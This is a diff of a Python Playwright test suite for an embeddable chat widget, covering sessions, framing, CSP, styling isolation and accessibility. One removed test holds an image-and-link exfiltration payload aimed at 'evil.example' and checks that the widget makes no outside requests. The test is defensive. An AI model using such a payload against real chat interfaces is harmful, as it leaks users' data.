@@ -1,6 +1,5 @@
-"""The widget on pages of other sites: one script tag, sessions from the site's own backend."""
+"""The widget on pages of other sites: one script tag, a frame, sessions from the backend of the site."""
 
-import re
 from collections.abc import AsyncIterator
 from contextlib import asynccontextmanager
 from typing import Any
@@ -9,10 +8,10 @@ import httpx2
 import pytest
 from playwright.async_api import expect
 
-from bench.processes import free_port
 from tests.conftest import Start
-from tests.support import Service, embedded_upstream, make_settings, served
+from tests.support import Service
 from tests.web.conftest import WEB, Open
+from tests.web.framed import Framed
 from tests.web.support import Site, Visit, mint, origin_of, playground, site
 
 KEY = "a-key-of-the-shop"
@@ -21,199 +20,231 @@ AUTH: dict[str, Any] = {
     "api_keys": {"shop": KEY},
     "secret_keys": ["secret-of-the-tests-with-32-characters"],
 }
-LIMIT_BYTES = 130_000
+TOKEN = 'data-token-url="/token"'
+ISOLATED = {"cross-origin-embedder-policy": "require-corp", "cross-origin-opener-policy": "same-origin"}
+PNG = (
+    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"
+    "AAAADUlEQVR4nGP4z8DwHwAFAAH/iZk9HQAAAABJRU5ErkJggg=="
+)
 
 
 @asynccontextmanager
-async def shop(start: Start, *, allowed: bool = True, **settings: Any) -> AsyncIterator[tuple[Site, Service]]:
-    """A site with the service behind it, which lets the site's pages call or not."""
-    async with site() as found:
-        origins = [found.origin] if allowed else []
-        async with start(is_served=True, cors_origins=origins, **(AUTH | settings)) as service:
-            found.tokens = [await mint(service, KEY, origins=[found.origin])]
-            found.pages["/"] = page_with(service)
-            yield found, service
+async def shop(
+    start: Start, attributes: str = TOKEN, before: str = "", **settings: Any
+) -> AsyncIterator[tuple[Site, Service]]:
+    """A site whose sessions name its origin, so that CORS_ORIGINS need not."""
+    async with site() as found, start(is_served=True, **(AUTH | settings)) as service:
+        found.tokens = [await mint(service, KEY, origins=[found.origin])]
+        found.pages["/"] = page_with(service, attributes, before)
+        yield found, service
 
 
-def page_with(service: Service, attributes: str = "", before: str = "") -> str:
+def page_with(service: Service, attributes: str = TOKEN, before: str = "") -> str:
     script = f"{origin_of(service.base_url)}/embed.js"
-    tag = f'<script type="module" src="{script}" data-token-url="/token" {attributes}></script>'
-    return f"{before}<h1>Shop</h1>{tag}"
+    return f'{before}<h1>Shop</h1><script type="module" src="{script}" {attributes}></script>'
 
 
-async def enter(visit: Open, found: Site, service: Service, path: str = "/") -> Visit:
-    opened: Visit = await visit(found.origin + path, origins=(origin_of(service.base_url),))
+async def enter(visit: Open, found: Site, service: Service, **options: Any) -> Visit:
+    opened: Visit = await visit(found.origin + "/", origins=(origin_of(service.base_url),), **options)
     return opened
-
-
-async def open_bubble(visit: Open, found: Site, service: Service) -> Visit:
-    chat = await enter(visit, found, service)
-    await chat.button("Open chat").click()
-    await expect(chat.input).to_be_focused()
-    return chat
 
 
 async def test_a_script_tag_puts_a_chat_on_another_site(start: Start, visit: Open):
     async with shop(start) as (found, service):
-        chat = await open_bubble(visit, found, service)
-        await chat.say("hello")
-        await expect(chat.answer).to_have_text("You said: hello")
-        headers = chat.posts("/chat")[0].headers
-        assert headers["authorization"] == f"Bearer {found.tokens[0]['client_secret']}"
-        assert KEY not in str(await chat.page.content())
-        await chat.page.keyboard.press("Escape")
+        opened = await enter(visit, found, service)
+        chat = await Framed(opened).open()
+        await chat.asked("hello")
+        [sent] = opened.posts("/chat")
+        assert sent.headers["authorization"] == f"Bearer {found.tokens[0]['client_secret']}"
+        assert sent.headers["x-embed-origin"] == found.origin
+        assert KEY not in await chat.page.content()
+        await chat.input.press("Escape")
         await expect(chat.input).to_be_hidden()
-        await expect(chat.button("Open chat")).to_be_focused()
-
-
-async def test_pictures_and_links_of_an_answer_ask_nobody(start: Start, visit: Open):
-    async with shop(start) as (found, service):
-        chat = await open_bubble(visit, found, service)
-        secret = "https://evil.example/?q=secret"
-        await chat.say(f"![a]({secret}) [c]({secret}) <img src='{secret}'>")
-        await expect(chat.answer.locator("a")).to_have_attribute("href", secret)
-        await expect(chat.answer).to_contain_text("a c <img")
-        # `visit` checks at its end that no request has left for another origin.
-        await expect(chat.answer.locator("img")).to_have_count(0)
+        await expect(opened.button("Open chat")).to_be_focused()
 
 
 async def test_the_thread_is_remembered_from_page_to_page(start: Start, visit: Open):
     async with shop(start) as (found, service):
         found.pages["/other"] = found.pages["/"]
-        chat = await open_bubble(visit, found, service)
-        await chat.say("hello")
-        await expect(chat.answer).to_have_text("You said: hello")
+        chat = await Framed(await enter(visit, found, service)).open()
+        await chat.asked("hello")
         await chat.page.goto(found.origin + "/other")
-        await chat.button("Open chat").click()
+        await chat.open()
         await expect(chat.questions).to_have_text(["hello"])
+        await expect(chat.answer).to_have_text("You said: hello")
 
 
-async def test_a_site_without_permission_gets_nothing(start: Start, visit: Open):
-    async with shop(start, allowed=False) as (found, service):
-        chat = await open_bubble(visit, found, service)
-        await chat.say("hello")
-        await expect(chat.log.get_by_text("The service cannot be reached.")).to_be_visible()
+async def test_a_site_that_nobody_allowed_cannot_frame_the_chat(start: Start, visit: Open):
+    async with shop(start) as (found, service):
+        found.tokens = [await mint(service, KEY, origins=["https://elsewhere.test"])]
+        opened = await enter(visit, found, service)
+        await opened.button("Open chat").click()
+        await expect(opened.page.get_by_text("cannot be shown")).to_be_visible()
+        # The browser says so in the console, as the launcher does with the remedy.
+        assert any("frame-ancestors" in complaint for complaint in opened.complaints)
+        opened.complaints.clear()
 
 
 async def test_a_session_of_another_site_is_refused(start: Start, visit: Open):
-    async with shop(start) as (found, service):
+    async with site() as found, start(is_served=True, cors_origins=[found.origin], **AUTH) as service:
         found.tokens = [await mint(service, KEY, origins=["https://elsewhere.test"])]
-        chat = await open_bubble(visit, found, service)
+        found.pages["/"] = page_with(service)
+        chat = await Framed(await enter(visit, found, service)).open()
         await chat.say("hello")
-        await expect(chat.page.locator(".error-message-text")).to_be_visible()
+        await expect(chat.failure).to_contain_text("This website may not use the chat.")
         await expect(chat.answer).to_have_count(0)
 
 
 async def test_a_session_that_ended_is_replaced_in_the_middle_of_a_chat(start: Start, visit: Open):
     async with shop(start) as (found, service):
-        dead = {"client_secret": "ss_dead", "expires_at": found.tokens[0]["expires_at"]}
-        found.tokens = [found.tokens[0], dead]
-        chat = await open_bubble(visit, found, service)
-        await chat.say("hello")
-        await expect(chat.answer).to_have_text("You said: hello")
-        found.tokens = [dead, await mint(service, KEY, origins=[found.origin])]
+        dead = {**found.tokens[0], "client_secret": "ss_dead"}
+        chat = await Framed(await enter(visit, found, service)).open()
+        await chat.asked("hello")
+        alive = await mint(service, KEY, origins=[found.origin])
+        # The frame still opens with the first one's ticket; its secret is void.
+        found.tokens = [{**found.tokens[0], "client_secret": found.tokens[0]["client_secret"] + "x"}, alive]
         found.token_calls = 0
         await chat.page.reload()
-        await chat.button("Open chat").click()
+        await chat.open()
         await expect(chat.questions).to_have_text(["hello"])
-        await chat.say("again")
-        await expect(chat.answer).to_have_text("You said: again")
-        assert found.token_calls == len(found.tokens)
-
-
-async def test_a_session_is_renewed_before_it_ends(start: Start, visit: Open):
-    async with shop(start) as (found, service):
-        # Already within the last quarter of its life when it arrives late.
-        found.tokens = [{**found.tokens[0], "expires_at": 0}, found.tokens[0]]
-        chat = await open_bubble(visit, found, service)
-        await chat.say("hello")
-        await expect(chat.answer).to_have_text("You said: hello")
-        await chat.say("again")
-        await expect(chat.answer).to_have_text("You said: again")
+        await chat.asked("again")
         assert found.token_calls == 2
-        assert [401 for sent in chat.posts("/chat") if (await sent.response()).status == 401] == []  # type: ignore[union-attr]  # answered, as the text shows
+        assert dead["client_secret"] not in await chat.page.content()
 
 
-async def test_an_answer_survives_a_restart_of_the_service(visit: Open):
-    async with embedded_upstream() as url:
-        settings = make_settings(openai_base_url=url, openai_api_key="key", shutdown_grace_seconds=0.1)
-        port = free_port()
-        async with served(settings, port) as first:
-            chat = await visit(playground(first))
-            await chat.say("slow:150 go")
-            await expect(chat.answer).to_contain_text("word9")
-        await expect(chat.page.get_by_text("Reconnecting")).to_be_visible()
-        async with served(settings, port):
-            await expect(chat.answer).to_contain_text("word149")
-            words = (await chat.answer.inner_text()).split()
-            assert words == [f"word{number}" for number in range(150)]
+async def test_without_a_session_the_chat_says_so(start: Start, visit: Open):
+    async with site() as found, start(is_served=True, cors_origins=[found.origin], **AUTH) as service:
+        found.tokens, found.token_status = [{}], 503
+        found.pages["/"] = page_with(service)
+        chat = await Framed(await enter(visit, found, service)).open()
+        await chat.say("hello")
+        await expect(chat.failure).to_contain_text("You are not signed in to this chat.")
 
 
-async def test_an_inline_chat_takes_the_sites_colours_but_not_its_styles(start: Start, visit: Open):
-    async with shop(start) as (found, service):
-        styles = (
-            "<style>* { color: rgb(255, 0, 0) !important; font-size: 40px !important; }"
-            "soloist-chat { --soloist-accent: rgb(0, 128, 0); height: 500px; }</style>"
-            "<soloist-chat heading='Ask us' greeting='Welcome'></soloist-chat>"
-        )
-        found.pages["/"] = page_with(service, before=styles)
-        chat = await enter(visit, found, service)
-        await expect(chat.page.get_by_role("heading", name="Ask us")).to_be_visible()
-        await expect(chat.page.get_by_text("Welcome")).to_be_visible()
-        await chat.say("slow: go")
-        await expect(chat.answer).to_contain_text("word3")
+async def test_a_hostile_page_changes_nothing_in_the_chat(start: Start, visit: Open):
+    hostile = (
+        "<style>* { color: rgb(255, 0, 0) !important; font-size: 40px !important }"
+        "iframe { display: none !important; width: 1px !important }</style>"
+    )
+    async with site() as found, start(is_served=True, cors_origins=[found.origin]) as service:
+        found.pages["/"] = page_with(service, "", hostile)
+        chat = await Framed(await enter(visit, found, service)).open()
+        await chat.asked("hello")
         styled = "element => [getComputedStyle(element).color, getComputedStyle(element).fontSize]"
         assert await chat.answer.evaluate(styled) == ["rgb(27, 27, 31)", "15px"]
-        await chat.button("Stop answering").click()
-        await chat.input.click()
-        await chat.page.keyboard.type("x")
+        frame = chat.page.locator("soloist-bubble iframe")
+        assert (await frame.bounding_box() or {})["width"] > 300
+        assert await frame.evaluate("frame => frame.contentDocument") is None
+
+
+async def test_a_strict_policy_of_the_page_needs_three_sources(start: Start, visit: Open):
+    async with shop(start) as (found, service):
+        origin = origin_of(service.base_url)
+        policy = f"default-src 'none'; script-src {origin}; frame-src {origin}; connect-src 'self'"
+        found.headers = {"content-security-policy": policy}
+        chat = await Framed(await enter(visit, found, service)).open()
+        await chat.asked("hello")
+
+
+async def test_an_isolated_page_may_have_the_chat(start: Start, visit: Open):
+    async with shop(start) as (found, service):
+        found.headers = ISOLATED
+        opened = await enter(visit, found, service)
+        assert await opened.page.evaluate("crossOriginIsolated")
+        chat = await Framed(opened).open()
+        await chat.asked("hello")
+
+
+async def test_an_inline_chat_takes_the_sites_colours_and_words(start: Start, visit: Open):
+    inline = (
+        "<style>soloist-chat { --soloist-accent: rgb(0, 128, 0); height: 500px }</style>"
+        f"<soloist-chat heading='Ask us' greeting='Welcome' suggestions='One?|Two?' logo='{PNG}'"
+        " disclaimer='It may err' uploads='off'></soloist-chat>"
+    )
+    async with shop(start, before=inline) as (found, service):
+        chat = Framed(await enter(visit, found, service), "soloist-chat")
+        await expect(chat.frame.get_by_role("heading", name="Ask us")).to_be_visible()
+        await expect(chat.frame.get_by_text("Welcome")).to_be_visible()
+        await expect(chat.frame.get_by_text("It may err")).to_be_visible()
+        await expect(chat.button("Attach files")).to_have_count(0)
+        await expect(chat.frame.locator(".logo")).to_have_js_property("naturalWidth", 1)
+        await chat.button("Two?").click()
+        await expect(chat.answer).to_have_text("You said: Two?")
+        await chat.input.fill("x")
         background = "element => getComputedStyle(element).backgroundColor"
         assert await chat.button("Send").evaluate(background) == "rgb(0, 128, 0)"
+        await expect(chat.page.locator("soloist-bubble")).to_have_count(0)
 
 
-async def test_a_chat_that_a_framework_adds_later_works(start: Start, visit: Open):
-    async with shop(start) as (found, service):
-        found.pages["/"] = page_with(service, attributes='data-bubble="off"')
-        chat = await enter(visit, found, service)
+async def test_a_chat_that_a_framework_moves_keeps_its_thread(start: Start, visit: Open):
+    async with shop(start, f'{TOKEN} data-bubble="off"') as (found, service):
+        chat = Framed(await enter(visit, found, service), "soloist-chat")
         await chat.page.evaluate("document.body.append(document.createElement('soloist-chat'))")
-        await chat.say("hello")
+        await chat.asked("hello")
+        move = (
+            "const main = document.createElement('main'); main.append(document.querySelector('soloist-chat'))"
+        )
+        await chat.page.evaluate(f"() => {{ {move}; document.body.replaceChildren(main) }}")
+        await expect(chat.questions).to_have_text(["hello"])
+        await chat.asked("again")
+
+
+async def test_the_page_can_ask_and_hears_what_happens(start: Start, visit: Open):
+    async with shop(start) as (found, service):
+        opened = await enter(visit, found, service)
+        listen = """names => {
+          window.told = [];
+          for (const name of names) document.addEventListener(`soloist-${name}`, () => told.push(name));
+        }"""
+        await opened.page.evaluate(
+            listen, ["open", "ready", "thread", "question", "answer", "error", "close"]
+        )
+        await opened.page.evaluate("document.querySelector('soloist-bubble').ask('hello')")
+        chat = Framed(opened)
         await expect(chat.answer).to_have_text("You said: hello")
+        await expect(chat.button("Send")).to_be_visible()
+        await opened.page.evaluate("document.querySelector('soloist-bubble').close()")
+        told = await opened.page.evaluate("told")
+        assert told == ["open", "ready", "question", "thread", "answer", "close"]
+
+
+async def test_answers_that_end_behind_a_closed_bubble_are_counted(start: Start, visit: Open):
+    async with shop(start) as (found, service):
+        opened = await enter(visit, found, service)
+        chat = await Framed(opened).open()
+        await chat.say("slow:20 go")
+        await expect(chat.answer).to_contain_text("word1")
+        await opened.button("Close chat").first.click()
+        await expect(opened.button("Open chat, 1 unread")).to_be_visible()
+        await opened.button("Open chat").click()
+        await expect(chat.answer).to_contain_text("word19")
+        await expect(opened.button("unread")).to_have_count(0)
+
+
+async def test_two_widgets_keep_their_conversations_apart(start: Start, visit: Open):
+    async with shop(start) as (found, service):
+        two = ("ann", "bob")
+        inline = "".join(f"<soloist-chat id={name} storage-key={name}></soloist-chat>" for name in two)
+        found.pages["/"] = page_with(service, before=inline)
+        opened = await enter(visit, found, service)
+        for name in two:
+            await Framed(opened, f"#{name}").asked(name)
+        await opened.page.reload()
+        for name in two:
+            await expect(Framed(opened, f"#{name}").questions).to_have_text([name])
 
 
 async def test_on_a_phone_the_panel_fills_the_screen(start: Start, visit: Open):
     async with shop(start) as (found, service):
         size = {"width": 390, "height": 844}
-        origins = (origin_of(service.base_url),)
-        chat = await visit(found.origin + "/", origins=origins, viewport=size, color_scheme="dark")
-        await chat.button("Open chat").click()
-        await expect(chat.input).to_be_visible()
-        box = await chat.page.locator("soloist-chat").bounding_box()
-        assert box == {"x": 0, "y": 0, "width": 390, "height": 844}
-        await chat.page.evaluate((WEB / "node_modules/axe-core/axe.min.js").read_text())
-        scan = await chat.page.evaluate("axe.run('soloist-bubble')")
-        serious = [rule["id"] for rule in scan["violations"] if rule["impact"] in {"serious", "critical"}]
-        assert serious == []
-
-
-@pytest.mark.usefixtures("bundle")
-async def test_all_that_the_widget_loads_is_small(start: Start):
-    async with start(is_served=True) as service:
-        origin = origin_of(service.base_url)
-        async with httpx2.AsyncClient(base_url=origin) as client:
-            waiting, seen = ["/embed.js"], dict[str, int]()
-            while waiting:
-                path = waiting.pop()
-                if path in seen:
-                    continue
-                response = await client.get(path)
-                assert response.headers["access-control-allow-origin"] == "*"
-                assert response.headers["content-encoding"] == "gzip"
-                seen[path] = int(response.headers["content-length"])
-                waiting += [
-                    f"/assets/{name}" for name in re.findall(r'"\.(?:/assets)?/([\w-]+\.js)"', response.text)
-                ]
-        assert len(seen) > 1
-        assert sum(seen.values()) <= LIMIT_BYTES
+        opened = await enter(visit, found, service, viewport=size, color_scheme="dark")
+        chat = await Framed(opened).open()
+        box = await opened.page.locator("soloist-bubble iframe").bounding_box()
+        assert box == {"x": 0, "y": 0, **size}
+        await chat.asked("hello")
+        await opened.page.evaluate((WEB / "node_modules/axe-core/axe.min.js").read_text())
+        scan = await opened.page.evaluate("axe.run('soloist-bubble')")
+        assert [rule["id"] for rule in scan["violations"]] == []
 
 
 async def test_the_playground_gets_its_own_sessions_on_a_developers_machine(start: Start, visit: Open):
@@ -230,4 +261,15 @@ async def test_without_sessions_the_playground_says_what_to_set(start: Start, vi
         await expect(chat.page.get_by_text("PLAYGROUND_TOKEN_URL")).to_be_visible()
         await expect(chat.input).to_have_count(0)
         refused = await service.client.post(origin_of(service.base_url) + "/playground/session")
-        assert refused.status_code == 404
+        assert refused.status_code == httpx2.codes.NOT_FOUND
+
+
+@pytest.mark.usefixtures("bundle")
+async def test_the_launcher_is_small(start: Start):
+    async with (
+        start(is_served=True) as service,
+        httpx2.AsyncClient(base_url=origin_of(service.base_url)) as client,
+    ):
+        response = await client.get("/embed.js")
+        assert response.headers["content-encoding"] == "gzip"
+        assert int(response.headers["content-length"]) <= 10_000
